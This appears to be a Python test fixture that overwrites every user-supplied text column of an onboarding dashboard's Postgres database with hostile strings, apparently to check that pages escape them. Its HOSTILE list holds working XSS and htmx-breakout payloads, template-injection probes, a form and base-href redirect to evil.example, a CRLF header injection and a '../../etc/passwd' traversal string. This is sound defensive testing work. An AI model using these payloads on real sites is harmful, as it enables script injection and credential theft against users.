"""Hostile text, every column of the database that holds text of people's, and a way to fill them all with it."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Any

import psycopg
from psycopg import sql

from dashboard.models import Base
from dashboard.onboarding.people import index

MARK = "data-pwned"
"""The attribute that an element has if hostile text has become one."""

REQUESTED = "/pwned"
"""What is asked for if hostile text has become an attribute of htmx."""

TURNED = "\u202egnihton\u2066\u202dpu"
"""Turns round what is read after it, unless that is kept apart."""

BREAKOUT = (
    f"\"'><img src=x onerror=alert(1) {MARK}></title></textarea></script><script {MARK}>alert(1)</script>"
    f'{{{{7*7}}}}" hx-get="{REQUESTED}" hx-trigger="load" {MARK} x="{TURNED}'
)
"""Gets out of a quoted attribute, of text, of a title and of a text area, whichever it stands in; 185 characters."""

HOSTILE = (
    BREAKOUT,
    f"<script {MARK}>alert(1)</script>",
    f'"><img src=x onerror=alert(1) {MARK}>',
    f"'\"><svg onload=alert(1) {MARK}>",
    f"' {MARK} onmouseover='alert(1)",
    f"<a href=javascript:alert(1) {MARK}>x</a>",
    "javascript:alert(1)",
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    f"</title><script {MARK}>alert(1)</script>",
    f"</textarea><script {MARK}>alert(1)</script>",
    f"<!-- {MARK} -->",
    f"<!-- {MARK}",
    f"<style {MARK}>*{{display:none}}</style>",
    f'<base href="//evil.example/" {MARK}>',
    f'<form action="//evil.example/" {MARK}><input name="csrf_token">',
    f'<div hx-get="{REQUESTED}" hx-trigger="load" {MARK}></div>',
    f'" hx-get="{REQUESTED}" hx-trigger="load" {MARK} x="',
    f'<hx-partial hx-target="body" {MARK}>x</hx-partial>',
    f"<iframe srcdoc='<script>alert(1)</script>' {MARK}></iframe>",
    f"<x {MARK} id=main></x>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x22; &amp;amp;",
    "\\u003cscript\\u003e \\x3cscript\\x3e '+alert(1)+' `${alert(1)}`",
    "W" * 200,
    "]]> --> */ // ; -- %00 %0d%0aSet-Cookie:x=1 ../../etc/passwd",
)
"""Each is to be read on the page as it stands here. The first does most of it, where there is place for one only."""

TEXTS: Mapping[str, tuple[str, ...]] = {
    "onboarding_step_definitions": ("title", "description", "action_url", "edited_by"),
    "draft_editors": ("actor",),
    "step_releases": ("note", "released_by"),
    "onboarding_users": ("user_id", "name", "email"),
    "user_steps": ("user_id", "updated_by"),
    "user_step_events": ("user_id", "actor", "comment"),
    "bulk_changes": ("comment", "created_by"),
    "bulk_change_people": ("user_id",),
    "write_conflicts": ("user_id", "actor"),
    "audit_log": ("actor", "user_id", "subject", "changes", "note"),
    "staff_accounts": ("email", "name"),
    "staff_sessions": ("address", "user_agent"),
    "staff_links": ("created_by",),
    "sign_in_failures": ("email", "address"),
    "api_tokens": ("name", "created_by"),
}
"""The columns that hold what a person, a host or a browser has said."""

OURS: Mapping[str, str] = {
    "steps.step_id": "lowercase letters, digits and hyphens, wherever it comes from",
    "onboarding_step_definitions.step_id": "as steps.step_id",
    "onboarding_step_definitions.state": "one of two words",
    "draft_editors.step_id": "as steps.step_id",
    "step_releases.step_id": "as steps.step_id",
    "step_releases.kind": "one of five words",
    "step_releases.receipt": "numbers under names of ours",
    "user_search.user_id": "as onboarding_users.user_id",
    "user_search.words": "made of onboarding_users; shown nowhere",
    "user_search.first_words": "made of user_search.words",
    "user_steps.step_id": "as steps.step_id",
    "user_steps.status": "one of four words",
    "user_step_events.step_id": "as steps.step_id",
    "user_step_events.source": "one of five words",
    "user_step_events.from_status": "one of four words",
    "user_step_events.to_status": "one of four words",
    "bulk_changes.step_id": "as steps.step_id",
    "bulk_changes.status": "one of four words",
    "bulk_change_people.from_status": "one of four words",
    "bulk_change_people.outcome": "one of four words",
    "write_conflicts.step_id": "as steps.step_id",
    "write_conflicts.source": "one of five words",
    "write_conflicts.to_status": "one of four words",
    "audit_log.action": "words of ours",
    "audit_log.step_id": "as steps.step_id",
    "staff_accounts.role": "one of four words",
    "staff_accounts.password_hash": "a hash; shown nowhere",
    "staff_accounts.oidc_issuer": "an address of the settings",
    "staff_accounts.oidc_subject": "the provider's name for the account; shown nowhere",
    "staff_sessions.id": "a digest",
    "staff_sessions.previous_id": "a digest",
    "staff_links.secret_hash": "a digest",
    "api_tokens.token_hash": "a digest",
    "api_tokens.scopes": "words of ours",
    "rate_limits.key": "a digest, an id of a user or a network; shown nowhere",
    "installation.key": "a word of ours",
    "installation.value": "facts of ours",
}
"""The other columns of text, and why nobody can put anything of theirs there, or why nobody sees it."""

KEPT = "usr_7f3k2q"
"""The one person whose id stays, for the journeys of the demo lead there."""

FIRST = ("setup-payments", KEPT)
"""Of these every text is the first; the others take turns."""

ACTORS = [(table, name) for table, names in TEXTS.items() for name in names if name.endswith("_by") or name == "actor"]
OF_PEOPLE = [table for table, names in TEXTS.items() if "user_id" in names]
SAID = "CREATE FUNCTION pg_temp.said(n bigint) RETURNS text LANGUAGE sql AS $$ SELECT (ARRAY[{}])[1 + n % {}] $$"
UNSPACED = "CREATE FUNCTION pg_temp.unspaced() RETURNS text LANGUAGE sql AS $$ SELECT replace({}, ' ', '/') $$"

# Everybody who is named somewhere gets another name, and is called by it everywhere: `prefix` is that of an actor.
RENAMED: Mapping[str, str] = {
    "user": f"""SELECT user_id AS was, left(pg_temp.said(row_number() OVER (ORDER BY user_id)), 150) || user_id AS now
                  FROM onboarding_users WHERE user_id <> '{KEPT}'""",
    "staff": "SELECT email AS was, left(id || pg_temp.unspaced(), 240) || '@x' AS now FROM staff_accounts",
    "token": "SELECT name AS was, left(id || pg_temp.said(id), 100) AS now FROM api_tokens",
}
CHANGES = """
UPDATE audit_log SET changes = changes || jsonb_build_object(
    'title', jsonb_build_array(pg_temp.said(id), pg_temp.said(id + 1)), pg_temp.said(0), pg_temp.said(id),
    'name', jsonb_build_array(NULL, pg_temp.said(0)), 'description', jsonb_build_array(pg_temp.said(id), NULL))
"""
# One that the rules of today let through too, so that what it stands in can be saved.
OPENS = """
UPDATE onboarding_step_definitions SET action_url = '/' || pg_temp.unspaced() WHERE step_id = ANY(%(first)s)
"""


def poison(connection: psycopg.Connection[Any], texts: Sequence[str] = HOSTILE) -> None:
    """Fills every column of TEXTS with the texts in turn, past all rules of ours: what is stored may be older than they.

    Whoever is named stays who they are, under the new name.
    """
    listed = sql.SQL(", ").join(sql.Literal(one) for one in texts)
    connection.execute(sql.SQL(SAID).format(listed, sql.Literal(len(texts))))
    connection.execute(sql.SQL(UNSPACED).format(sql.Literal(texts[0].replace(TURNED, ""))))
    # some tables refuse to be rewritten, and names are keys
    connection.execute("SET session_replication_role = replica")
    for prefix, renamed in RENAMED.items():
        connection.execute(f"CREATE TEMP TABLE {prefix}_renamed AS {renamed}")
        _rename(connection, prefix)
    for table, names in TEXTS.items():
        plain = [name for name in names if (table, name) not in _BY_NAME]
        for place, name in enumerate(plain):
            _fill(connection, table, name, place)
    connection.execute(CHANGES)
    connection.execute(OPENS, {"first": list(FIRST)})
    connection.execute("DELETE FROM user_search")
    connection.execute(index())
    connection.execute("SET session_replication_role = origin")


_BY_NAME = {
    *ACTORS,
    *((table, "user_id") for table in OF_PEOPLE),
    ("staff_accounts", "email"),
    ("api_tokens", "name"),
    ("audit_log", "changes"),
}


def _rename(connection: psycopg.Connection[Any], prefix: str) -> None:
    keys = {
        "user": [(table, "user_id") for table in OF_PEOPLE],
        "staff": [("staff_accounts", "email"), ("audit_log", "subject")],
        "token": [("api_tokens", "name"), ("audit_log", "subject")],
    }
    for table, name in keys[prefix]:
        connection.execute(f"UPDATE {table} t SET {name} = r.now FROM {prefix}_renamed r WHERE t.{name} = r.was")
    for table, name in ACTORS:
        connection.execute(
            f"UPDATE {table} t SET {name} = '{prefix}:' || r.now FROM {prefix}_renamed r WHERE t.{name} = '{prefix}:' || r.was"
        )


def _fill(connection: psycopg.Connection[Any], table: str, name: str, place: int) -> None:
    most = 200 if name in ("title", "name") else 2_000
    columns = {"step_id", "user_id"} & {column.name for column in Base.metadata.tables[table].columns}
    first = " OR ".join(f"t.{column} = ANY(%(first)s)" for column in sorted(columns)) or "false"
    connection.execute(
        f"""
        UPDATE {table} t SET {name} = left(pg_temp.said(CASE WHEN {first} THEN 0 ELSE x.number + {place} END), {most})
          FROM (SELECT ctid AS row, row_number() OVER (ORDER BY ctid) AS number FROM {table}) x WHERE t.ctid = x.row
        """,
        {"first": list(FIRST)},
    )
